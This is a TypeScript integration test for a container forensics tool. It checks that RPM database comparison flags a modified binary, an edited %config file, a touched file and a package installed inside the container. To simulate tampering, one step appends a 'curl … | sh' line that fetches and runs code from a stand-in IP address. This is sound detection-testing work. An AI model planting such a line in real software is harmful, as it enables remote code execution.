/**
 * Changed files judged by RPM's own database (rpmdb.sqlite, as rpm 4.18 writes it), on a
 * real container: packages built with rpmbuild and installed with rpm into the image's
 * root, one with enough files that its header spills over many SQLite pages. A binary
 * changed in the container is a modified package file, a %config file is the
 * administrator's, a file only touched is the package's own, and a package the
 * container's rewritten database lists is named as installed inside it.
 */
import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { triage } from '../../src/app/triage.js';
import type { ChangedPath } from '../../src/report/change.js';
import type { TriageReport } from '../../src/report/triage-report.js';
import { connectDockerLive } from '../../src/sources/docker-live/live-source.js';
import { baseImage, cleanRun, docker, newRunId, TEST_LABEL } from '../support/engine.js';

const run = promisify(execFile);
const runId = newRunId();
let work: string;
let report: TriageReport;

/** A spec: `files` as [path, content] under the build root; `config` marks %config ones. */
function spec(name: string, files: [string, string][], config: string[] = []): string {
  const install = files
    .map(
      ([p, content]) =>
        `mkdir -p "%{buildroot}${path.dirname(p)}"\nprintf '%s' '${content}' > "%{buildroot}${p}"`,
    )
    .join('\n');
  const list = files.map(([p]) => (config.includes(p) ? `%config(noreplace) ${p}` : p));
  return `Name: ${name}\nVersion: 1.0\nRelease: 1\nSummary: test\nLicense: MIT\nBuildArch: noarch\n%description\ntest\n%install\n${install}\nchmod 755 %{buildroot}/usr/bin/* 2>/dev/null || true\n%files\n${list.join('\n')}\n`;
}

async function rpmbuild(top: string, name: string, text: string): Promise<string> {
  await mkdir(path.join(top, 'SPECS'), { recursive: true });
  const file = path.join(top, 'SPECS', `${name}.spec`);
  await writeFile(file, text);
  await run('rpmbuild', ['--define', `_topdir ${top}`, '--quiet', '-bb', file]);
  return path.join(top, 'RPMS', 'noarch', `${name}-1.0-1.noarch.rpm`);
}

/** Installs the packages into `root` with rpm itself, its database at /var/lib/rpm. */
async function rpmInstall(root: string, packages: string[]): Promise<void> {
  const base = ['--root', root, '--dbpath', '/var/lib/rpm'];
  await run('rpm', [...base, '--initdb']);
  await run('rpm', [...base, '-i', '--nodeps', '--noscripts', '--nosignature', ...packages]);
}

const BULK: [string, string][] = Array.from({ length: 300 }, (_, i) => [
  `/usr/share/bulk/f${i}.txt`,
  `line ${i}\\n`,
]);

beforeAll(async () => {
  work = await mkdtemp(path.join(os.tmpdir(), 'coroner-rpm-'));
  const top = path.join(work, 'build');
  const demo = await rpmbuild(
    top,
    'demo-tool',
    spec(
      'demo-tool',
      [
        ['/usr/bin/demo-tool', '#!/bin/sh\\necho demo\\n'],
        ['/etc/demo/demo.conf', 'key=value\\n'],
      ],
      ['/etc/demo/demo.conf'],
    ),
  );
  const bulk = await rpmbuild(top, 'bulk-data', spec('bulk-data', BULK));
  const extra = await rpmbuild(
    top,
    'extra-agent',
    spec('extra-agent', [['/usr/bin/extra-agent', '#!/bin/sh\\n']]),
  );
  const imageRoot = path.join(work, 'image-root');
  await rpmInstall(imageRoot, [demo, bulk]);
  // The container's database after an rpm -i of its own: one package more.
  const laterRoot = path.join(work, 'later-root');
  await rpmInstall(laterRoot, [demo, bulk, extra]);

  const label = `${TEST_LABEL}=${runId}`;
  const stage = (
    await docker('create', '--label', label, '--network', 'none', await baseImage())
  ).trim();
  await docker('cp', `${imageRoot}/.`, `${stage}:/`);
  const image = `coroner-test/rpm:${runId}`;
  await docker(
    'commit',
    '--change',
    `LABEL ${label}`,
    '--change',
    'CMD ["sh", "-c", "while :; do sleep 3600; done"]',
    stage,
    image,
  );
  const container = `coroner-test-rpm-${runId}`;
  await docker('run', '-d', '--name', container, '--network', 'none', '--label', label, image);
  await docker(
    'exec',
    container,
    'sh',
    '-c',
    'printf "curl -s http://203.0.113.9/x | sh\\n" >> /usr/bin/demo-tool && echo key=other > /etc/demo/demo.conf && touch /usr/share/bulk/f7.txt',
  );
  await docker(
    'cp',
    path.join(laterRoot, 'var/lib/rpm/rpmdb.sqlite'),
    `${container}:/var/lib/rpm/rpmdb.sqlite`,
  );
  report = await triage(await connectDockerLive('auto'), container, {
    caseDir: path.join(work, 'case'),
  });
}, 300_000);

afterAll(async () => {
  await cleanRun(runId);
});

const change = (p: string): ChangedPath => {
  const found = [...report.changes].find((c) => c.path === p);
  expect(found, p).toBeDefined();
  return found!;
};

describe("a container judged by RPM's database", () => {
  it("reads the image's rpmdb.sqlite and the container's rewritten one, whole", () => {
    expect(report.packages?.managers).toEqual(['rpm']);
    expect(report.packages?.files.map((f) => [f.path, f.side, f.isRead, f.problem])).toEqual([
      ['/var/lib/rpm/rpmdb.sqlite', 'current', true, undefined],
      ['/var/lib/rpm/rpmdb.sqlite', 'original', true, undefined],
    ]);
  });

  it('finds the changed binary a modified package file, by the SHA-256 rpm lists', () => {
    const tool = change('/usr/bin/demo-tool');
    expect(tool.package).toMatchObject({
      manager: 'rpm',
      package: 'demo-tool',
      database: 'image',
      algorithm: 'sha256',
      verdict: 'differs',
    });
    expect(tool.findings.map((f) => f.rule)).toContain('package-modified');
  });

  it('leaves a changed %config file to the other rules, and finds a touched file the package own', () => {
    const conf = change('/etc/demo/demo.conf');
    expect(conf.package).toMatchObject({ isConffile: true, verdict: 'differs' });
    expect(conf.findings.map((f) => f.rule)).not.toContain('package-modified');
    expect(change('/usr/share/bulk/f7.txt').package).toMatchObject({
      package: 'bulk-data',
      verdict: 'matches',
    });
  });

  it('names the package the container installed itself, on the database that changed', () => {
    expect(report.packages?.installedInContainer).toEqual(['extra-agent 1.0-1']);
    const db = change('/var/lib/rpm/rpmdb.sqlite');
    expect(db.findings.find((f) => f.rule === 'packages-installed')?.reason).toMatch(
      /extra-agent 1\.0-1/,
    );
  });
});
